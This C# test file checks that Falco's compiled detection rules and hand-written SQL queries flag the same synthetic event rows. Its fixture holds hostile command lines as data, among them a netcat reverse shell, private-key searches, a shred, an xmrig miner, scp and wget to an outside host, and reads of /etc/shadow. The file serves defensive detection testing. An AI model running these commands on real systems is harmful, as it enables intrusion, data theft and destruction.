// SPDX-License-Identifier: Apache-2.0
namespace FarQuery.Rules.Tests;

/// <summary>Falco's stock rules, compiled, against the hand-written queries/ of the same rules, on the same rows: both
/// must fire on the same events (docs/falco-fields.md, "Hand-written detections and the compiler").</summary>
public sealed class HandWrittenComparisonTests
{
    private static readonly Lazy<CompileReport?> Stock = new(() =>
    {
        if (Paths.Falco is not { } dir)
        {
            return null;
        }

        return RuleCompiler.Compile([.. new[] { "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml" }
            .Select(f => RuleFileParser.Parse(File.ReadAllText(Path.Join(dir, f)), f))]);
    });

    /// <summary>Rows a small attack leaves in the event tables, one pid per event, plus benign ones.</summary>
    private static EventDatabase Events()
    {
        var db = new EventDatabase();
        db.Add("users", ("uid", 0), ("username", "root"));
        void Exec(long pid, string name, string cmdline, string parent = "sh", string ancestors = "sh containerd-shim", string? path = null) =>
            db.Add("process_events", ("syscall", "execve"), ("pid", pid), ("name", name), ("cmdline", cmdline), ("path", path ?? "/usr/bin/" + name), ("exec_path", path ?? "/usr/bin/" + name),
                ("parent", 1), ("parent_name", parent), ("parent_cmdline", parent + " -c x"), ("ancestors", ancestors), ("uid", 0), ("auid", 4294967295), ("cwd", "/srv"));
        void File(long pid, string operation, string syscall, string path, string flags = "0101", string? mode = null, string? dest = null, string name = "sh", long result = 3) =>
            db.Add("process_file_events", ("operation", operation), ("syscall", syscall), ("pid", pid), ("path", path), ("path_raw", path), ("flags", flags), ("mode", mode), ("dest_path", dest),
                ("status", result >= 0 ? "succeeded" : "failed"), ("result", result), ("name", name), ("cmdline", name), ("parent_name", "bash"), ("ancestors", "bash"), ("uid", 0), ("auid", 4294967295), ("executable", "/bin/" + name));
        void Connect(long pid, string name, string ip, int port, int protocol = 6) =>
            db.Add("socket_events", ("action", "connect"), ("syscall", "connect"), ("pid", pid), ("name", name), ("cmdline", name), ("family", 2), ("protocol", protocol),
                ("local_address", "172.17.0.2"), ("local_port", 40000 + pid), ("remote_address", ip), ("remote_port", port), ("status", "succeeded"), ("result", 0), ("auid", 4294967295));

        Exec(101, "nc", "nc -e /bin/sh 198.51.100.1 4444");
        Exec(102, "find", "find / -name id_rsa");
        Exec(103, "grep", "grep -r BEGIN RSA PRIVATE /home");
        Exec(104, "shred", "shred -u secrets");
        Exec(105, "xmrig", "xmrig -o stratum+tcp://pool.example:3333");
        Exec(106, "sh", "sh -c ls", parent: "httpd", ancestors: "httpd containerd-shim");
        Exec(107, "ls", "ls /var/lib/mysql", parent: "mysqld", ancestors: "mysqld containerd-shim");
        Exec(108, "base64", "base64 -d");
        Exec(109, "nmap", "nmap -sn 10.0.0.0/24");
        Exec(110, "apt-get", "apt-get install -y netcat");
        Exec(111, "scp", "scp db.dump user@198.51.100.1:/tmp/");
        Exec(112, "wget", "wget http://198.51.100.1/x");
        Exec(113, "x", "/dev/shm/x", path: "/dev/shm/x");
        Exec(114, "3", "/proc/self/fd/3 run", path: "/memfd:payload (deleted)");
        Exec(115, "ls", "ls -la");
        Exec(116, "cat", "cat /srv/app.conf");
        Exec(117, "sh", "sh -c uname -a 2>&1", parent: "nginx", ancestors: "nginx containerd-shim");
        Connect(201, "curl", "169.254.169.254", 80);
        Connect(202, "python3", "198.51.100.9", 443);
        File(301, "open", "openat", "/etc/ld.so.preload");
        File(302, "open", "openat", "/bin/evil");
        File(303, "mkdir", "mkdir", "/usr/bin/newdir", flags: "0", mode: "0755");
        File(304, "creat", "creat", "/dev/evil", flags: "01101");
        File(305, "rename", "renameat2", "/root/.bash_history", dest: "/tmp/h");
        File(306, "chmod", "fchmodat", "/srv/tool", mode: "04755");
        File(307, "symlink", "symlinkat", "/srv/link", dest: "/etc/shadow", name: "ln");
        File(308, "open", "openat", "/etc/shadow", flags: "0", name: "cat");
        File(309, "open", "openat", "/srv/app.log", flags: "02101");
        File(310, "open", "openat", "/etc/hosts", flags: "0", name: "curl");
        return db;
    }

    [Theory]
    [InlineData("netcat_remote_code_execution", "Netcat Remote Code Execution in Container")]
    [InlineData("search_private_keys_or_passwords", "Search Private Keys or Passwords")]
    [InlineData("remove_bulk_data_from_disk", "Remove Bulk Data from Disk")]
    [InlineData("known_cryptominer_process", "Known Cryptominer Process Executed")]
    [InlineData("detect_crypto_miners_stratum", "Detect crypto miners using the Stratum protocol")]
    [InlineData("run_shell_untrusted", "Run shell untrusted")]
    [InlineData("web_server_spawned_shell", "Web Server Spawned Shell")]
    [InlineData("db_program_spawned_process", "DB program spawned process")]
    [InlineData("decoding_payload_in_container", "Decoding Payload in Container")]
    [InlineData("launch_suspicious_network_tool", "Launch Suspicious Network Tool in Container")]
    [InlineData("launch_package_management_process", "Launch Package Management Process in Container")]
    [InlineData("launch_remote_file_copy_tools", "Launch Remote File Copy Tools in Container")]
    [InlineData("launch_ingress_remote_file_copy_tools", "Launch Ingress Remote File Copy Tools in Container")]
    [InlineData("execution_from_dev_shm", "Execution from /dev/shm")]
    [InlineData("fileless_execution_via_memfd", "Fileless execution via memfd_create")]
    [InlineData("contact_ec2_instance_metadata_service", "Contact EC2 Instance Metadata Service From Container")]
    [InlineData("write_below_etc", "Write below etc")]
    [InlineData("write_below_binary_dir", "Write below binary dir")]
    [InlineData("mkdir_binary_dirs", "Mkdir binary dirs")]
    [InlineData("create_files_below_dev", "Create files below dev")]
    [InlineData("delete_or_rename_shell_history", "Delete or rename shell history")]
    [InlineData("set_setuid_or_setgid_bit", "Set Setuid or Setgid bit")]
    [InlineData("create_symlink_over_sensitive_files", "Create Symlink Over Sensitive Files")]
    [InlineData("read_sensitive_file_untrusted", "Read sensitive file untrusted")]
    public void Compiled_SameRowsAsHandWritten_FireOnTheSameEvents(string query, string rule)
    {
        if (Stock.Value is not { } report)
        {
            return;
        }

        var compiled = Compile.Rule(report, rule);
        Assert.True(compiled.Status == RuleStatus.Compiled, $"{rule}: {compiled.Reason}");
        using var db = Events();
        var hand = db.Run(File.ReadAllText(Path.Join(Paths.Root, "queries", query + ".sql"))).Select(r => r["pid"]).Order(StringComparer.Ordinal).ToList();
        var falco = db.Run("SELECT p.pid FROM (" + compiled.Query!.Sql.TrimEnd(';') + ") c JOIN ("
            + "SELECT eid, pid FROM process_events UNION ALL SELECT eid, pid FROM socket_events UNION ALL SELECT eid, pid FROM process_file_events) p ON p.eid = c.eid")
            .Select(r => r["pid"]).Distinct().Order(StringComparer.Ordinal).ToList();
        Assert.NotEmpty(hand);
        Assert.Equal(hand, falco);
    }
}
